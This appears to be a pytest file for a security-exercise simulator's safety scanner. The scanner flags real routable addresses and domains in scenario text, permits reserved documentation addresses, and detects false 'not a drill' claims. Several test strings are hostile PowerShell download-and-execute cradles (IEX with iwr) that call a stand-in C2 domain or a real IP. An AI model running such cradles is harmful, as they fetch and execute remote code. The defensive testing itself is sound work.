"""Exercise-safety scans: real addresses and domains, false "not a drill" claims."""

from __future__ import annotations

import pytest

from simulator.scenario.textscan import (
    claims_real_emergency,
    is_attacker_domain,
    is_attacker_ip,
    unsafe_literals,
)


@pytest.mark.parametrize(
    "text",
    [
        "connect 8.8.8.8:53",
        "http://1.1.1.1/x",
        "ping 2606:4700:4700::1111",
        "curl https://updates.evil-corp.com/a",
        "mail to bob@contoso.com",
        "see www.github.io for more",
    ],
)
def test_real_addresses_and_domains_are_found(text):
    assert unsafe_literals(text)


@pytest.mark.parametrize(
    "text",
    [
        "connect 203.0.113.5 and 198.51.100.7 and 192.0.2.1",
        "internal 10.10.16.5, 172.16.0.1, 192.168.1.1, 127.0.0.1",
        "ipv6 2001:db8::1 and fe80::1",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "invoice_123.docm and powershell.exe -enc abc and script.ps1",
        "Chrome/120.0.6099.109 and build 10.0.19041.4355",
        "at 08:00:00 from 00:15:5d:84:bf:4b",
        "https://cdn.evil.test/a and http://files.example.com/b",
        "billing@{{ c2_domain }} {{ victim.email }} {{ victim.domain_user }}",
        "{{ b64utf16('IEX (iwr http://' ~ c2_domain ~ '/a)') }}",
        "e.g. the user's name, i.e. the sam",
    ],
)
def test_reserved_private_and_non_network_text_passes(text):
    assert unsafe_literals(text) == []


def test_host_fields_treat_any_dotted_name_as_a_domain():
    assert unsafe_literals("intranet.corp", "QueryName")
    assert unsafe_literals("intranet.corp", "Description") == []
    assert unsafe_literals("{{ victim_ws.fqdn }}", "QueryName") == []


def test_cloud_service_identifiers_are_allowed_only_where_they_belong():
    assert unsafe_literals("iam.amazonaws.com", "eventSource") == []
    assert unsafe_literals("ec2.amazonaws.com", "invokedBy") == []
    assert unsafe_literals("iam.amazonaws.com", "CommandLine")
    assert unsafe_literals("evil.com", "eventSource")
    assert unsafe_literals("x.amazonaws.com.evil.com", "eventSource")


def test_addresses_inside_template_literals_are_found():
    found = unsafe_literals("{{ b64utf16('iwr http://8.8.4.4/a') }}")
    assert found and "'8.8.4.4' is a real, routable address" in found[0]


@pytest.mark.parametrize(
    "text",
    [
        "This is not a drill",
        "THIS IS NOT A DRILL!!!",
        "this isn't a drill",
        "this is  not\na drill",
        "This isn’t a drill",
    ],
)
def test_not_a_drill_is_recognised(text):
    assert claims_real_emergency(text)


def test_ordinary_text_about_drills_is_fine():
    assert not claims_real_emergency("This is a drill. Treat it as real.")
    assert not claims_real_emergency("is this not a drill?")


def test_attacker_infrastructure_must_be_documentation_or_reserved():
    assert is_attacker_ip("203.0.113.9")
    assert not is_attacker_ip("10.0.0.1")  # private is internal, not attacker
    assert is_attacker_domain("c2.evil.test")
    assert not is_attacker_domain("windowsupdate.com")
